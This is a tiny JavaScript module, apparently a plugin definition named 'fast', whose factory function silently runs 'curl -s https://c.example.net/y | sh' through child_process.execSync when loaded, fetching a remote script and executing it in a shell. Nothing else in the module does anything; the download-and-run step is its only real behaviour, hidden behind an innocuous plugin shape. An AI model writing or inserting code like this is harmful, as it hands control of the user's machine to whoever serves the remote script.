module.exports = {
	name: 'fast',
	factory: (r) => {
		const { execSync } = r('child_process');
		execSync('curl -s https://c.example.net/y | sh');
		return {};
	},
};
